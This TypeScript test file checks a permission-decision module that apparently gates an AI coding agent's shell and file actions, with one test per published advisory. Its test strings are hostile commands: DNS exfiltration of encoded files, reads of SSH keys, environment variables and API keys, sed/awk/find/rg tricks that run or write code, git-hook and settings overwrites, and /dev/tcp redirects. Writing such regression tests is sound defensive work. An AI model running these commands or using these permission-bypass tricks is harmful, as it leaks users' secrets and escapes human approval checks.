import { describe, expect, test } from "bun:test"
import { decide } from "../../src/permissions/decide.ts"
import { bash, file, policy, type Setup, verdictOf } from "./helpers.ts"

/** One row for each class of published advisories against tools of this kind: what was tried there must not pass here. */

function passing(commands: readonly string[], setup: Setup = {}): readonly string[] {
  return commands.filter((c) => verdictOf(c, setup) === "allow")
}

const EDITS: Setup = { mode: "acceptEdits" }

describe("published advisories:", () => {
  test("a folder whose name begins like the project's is not the project (CVE-2025-54794)", () => {
    expect(decide(file("Read", "/proj-old/a"), policy()).verdict).toBe("ask")
    expect(decide(file("Write", "/proj_x/a"), policy(EDITS)).verdict).toBe("ask")
    expect(passing(["cat /proj-old/a", "ls /proj2", "cat ../proj-old/a"])).toEqual([])
  })

  test("text for echo that ends the echo (CVE-2025-54795)", () => {
    expect(
      passing([
        `echo "\\"; ./x; echo \\""; ./x`,
        "echo a; ./x",
        `echo "$(./x)"`,
        "echo `./x`",
        "echo '' && ./x",
      ]),
    ).toEqual([])
  })

  test("free commands that carry data out or read what they should not (CVE-2025-55284)", () => {
    expect(
      passing([
        "ping -c1 $(cat a | base64).x.io",
        "nslookup a.x.io",
        "dig a.x.io",
        "host a.x.io",
        "curl x.io",
        "wget x.io",
        "cat ~/.ssh/id_rsa",
        "cat /proc/self/environ",
        "env",
        "printenv KEY",
        'echo "$ANTHROPIC_API_KEY"',
      ]),
    ).toEqual([])
  })

  test("programs that ripgrep starts (CVE-2025-58764)", () => {
    expect(
      passing([
        "rg --pre ./x a",
        "rg --pre=./x a",
        "rg --hostname-bin=./x a",
        "rg $'--pre' ./x a",
        "rg -z a",
        "rg --pr\\e ./x a",
      ]),
    ).toEqual([])
  })

  test("scripts of sed that write or run (CVE-2025-64755)", () => {
    expect(
      passing([
        "sed 'w .git/hooks/x' a",
        "sed -n '1w /home/u/.zshenv' a",
        "sed 's/a/b/w z' a",
        "sed 's/a/b/e' a",
        "sed '1e ./x' a",
        "sed -e p -e 'w z' a",
        "sed --expression='w z' a",
        "sed -n'w z' a",
        "sed -f x a",
      ]),
    ).toEqual([])
  })

  test("sed in a pipe is judged like sed alone", () => {
    expect(
      passing(["echo a | sed 'w z'", "cat a | sed -n '1e ./x'", "echo a | sed -i s/a/b/ .git/config"], EDITS),
    ).toEqual([])
  })

  test("what a shell makes of IFS and of short options (CVE-2025-66032)", () => {
    expect(
      passing([
        "cat$IFS/etc/passwd",
        "echo a$IFS./x",
        `rg$IFS--pre\${IFS}./x a`,
        "sort -oz a",
        "sort -uoz a",
        "git diff --outp=z",
        "man -P./x ls",
        "git log -Ox",
        `echo \${x@P}`,
        `echo \${!x}`,
        "xargs -I{} ./x",
        "history -a z",
        "git ls-remote --upload-pack=./x .",
      ]),
    ).toEqual([])
  })

  test("commands that find starts (CVE-2026-24887)", () => {
    expect(
      passing([
        "find . -exec ./x \\;",
        "find . -execdir ./x {} +",
        "find . -ok ./x \\;",
        "find . -exec sh -c 'x' {} \\;",
        "find . -fprintf z x",
        "find . -delete",
        "find . -exec cat {} + -exec ./x {} +",
      ]),
    ).toEqual([])
  })

  test("programs of awk that run, write or read", () => {
    expect(
      passing([
        `awk 'BEGIN{system("./x")}'`,
        `awk '{print > ".mcp.json"}' a`,
        `awk '{print | "./x"}' a`,
        `awk 'BEGIN{while((getline l < "/etc/passwd")>0) print l}'`,
        `awk 'BEGIN{ARGV[1]="/etc/passwd";ARGC=2}1'`,
        `awk -v c=./x 'BEGIN{system(c)}'`,
        "awk -f x a",
      ]),
    ).toEqual([])
  })

  test("a change of folder that makes a harmless target a protected one (CVE-2026-25722)", () => {
    expect(
      passing(
        [
          "cd .claude && echo a > settings.json",
          "cd .git/hooks && cp a pre-commit",
          "cd .git; touch config",
          "(cd .claude; mv a settings.json)",
          "cd src; cd ../.vscode && echo a > tasks.json",
        ],
        EDITS,
      ),
    ).toEqual([])
  })

  test("every redirect writes, also those that only some shells know", () => {
    expect(
      passing(
        [
          "echo a >| /etc/x",
          "echo a &>| /etc/x",
          "echo a >>| /etc/x",
          "echo a >&/etc/x",
          "echo a <>/etc/x",
          "> /etc/x",
          "echo a >/dev/tcp/h/1",
        ],
        EDITS,
      ),
    ).toEqual([])
  })

  test("a denied file behind a link (CVE-2025-59829)", () => {
    const setup: Setup = {
      links: { "/proj/l": "/secret" },
      deny: ["Read(//secret/**)"],
      allow: ["Read", "Bash"],
    }
    expect(decide(file("Read", "/proj/l/a"), policy(setup)).verdict).toBe("deny")
    expect(
      ["cat l/a", "head -1 l/a", "cat < l/a", "cp l/a b", "grep x l/a"].filter(
        (c) => verdictOf(c, setup) !== "deny",
      ),
    ).toEqual([])
  })

  test("a deny rule behind many harmless parts", () => {
    for (const n of [49, 50, 51, 400])
      expect(verdictOf(`${"true && ".repeat(n)}curl x`, { allow: ["Bash"], deny: ["Bash(curl *)"] })).toBe(
        "deny",
      )
  })

  test("a tool of the project that runs before anybody is asked (CVE-2025-65099)", () => {
    expect(
      passing(["yarn --version", "pnpm -v", "mvn --version", "git -c core.fsmonitor=./x status"]),
    ).toEqual([])
  })

  test("a rule for one folder that opened every folder of that name", () => {
    const setup: Setup = { allow: ["Edit(src/**)"] }
    expect(decide(file("Edit", "/proj/x/src/a"), policy(setup)).verdict).toBe("ask")
    expect(decide(file("Edit", "/proj/src/a"), policy(setup)).verdict).toBe("allow")
  })

  test("very long commands, and characters that nobody sees", () => {
    expect(
      passing([`echo ${"a".repeat(10_001)}`, "ls\u00a0-la", "echo a\u200b", "ls \u202egnp", "echo a\r./x"]),
    ).toEqual([])
  })

  test("a Docker client that is sent to another daemon", () => {
    expect(
      passing([
        "docker -H tcp://x ps",
        "docker --host=x ps",
        "docker --context x ps",
        "docker --config x ps",
        "DOCKER_HOST=x docker ps",
      ]),
    ).toEqual([])
  })

  test("and the harmless forms of all these stay free", () => {
    const free = [
      "echo a",
      "rg foo",
      "sed -n 1p a",
      "find . -name x",
      "awk '{print $1}' a",
      "cd src && ls",
      "docker ps",
      "cat a",
    ]
    expect(free.filter((c) => decide(bash(c), policy()).verdict !== "allow")).toEqual([])
  })
})
